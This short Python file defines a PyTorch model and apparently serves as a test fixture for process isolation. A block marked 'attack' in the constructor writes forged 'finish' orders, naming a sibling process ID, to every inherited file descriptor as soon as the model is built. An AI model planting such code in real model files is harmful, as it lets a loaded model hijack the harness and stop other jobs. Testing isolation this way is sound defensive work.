"""Reads whatever descriptors it has inherited, and gives orders to whoever is at the other end."""

import contextlib
import os
import time

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for number in range(3, 256):
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, b'{"finish": %d, "patience": 0}' % int("@SIBLING_PID@"))
        time.sleep(0.2)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
